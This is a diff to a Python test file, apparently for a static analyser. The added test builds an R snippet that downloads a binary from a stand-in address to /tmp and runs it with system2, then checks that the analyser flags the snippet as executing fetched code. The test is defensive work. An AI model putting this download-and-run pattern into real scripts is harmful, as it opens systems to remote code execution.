@@ -143,3 +143,15 @@ def test_rscript_e_in_a_shell_step_is_read_as_r(tmp_path: Path) -> None:
     )
     found = analyse_file(tmp_path, "scripts/setup.sh", step, Language.SHELL)
     assert any(c.kind is Kind.FETCH and "198.51.100.61" in c.detail for c in found)
+
+
+def test_a_function_handed_a_url_downloads_and_its_result_is_run(tmp_path: Path) -> None:
+    source = (
+        "fetch_tool <- function(u, dest) {\n"
+        '  download.file(u, dest, mode = "wb")\n'
+        "  dest\n"
+        "}\n"
+        'bin <- fetch_tool("http://198.51.100.62/tool", "/tmp/tool")\n'
+        'system2(bin, c("--serve"))\n'
+    )
+    assert Kind.EXEC_FETCHED in kinds(tmp_path, source)
